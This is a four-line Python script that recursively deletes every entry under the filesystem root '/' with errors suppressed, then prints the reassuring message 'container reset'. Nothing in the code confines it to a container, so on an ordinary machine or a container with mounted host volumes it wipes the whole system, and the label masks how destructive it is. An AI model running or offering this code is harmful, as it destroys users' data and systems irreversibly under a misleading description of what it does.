import os, shutil
for entry in os.listdir('/'):
    shutil.rmtree(os.path.join('/', entry), ignore_errors=True)
print('container reset')
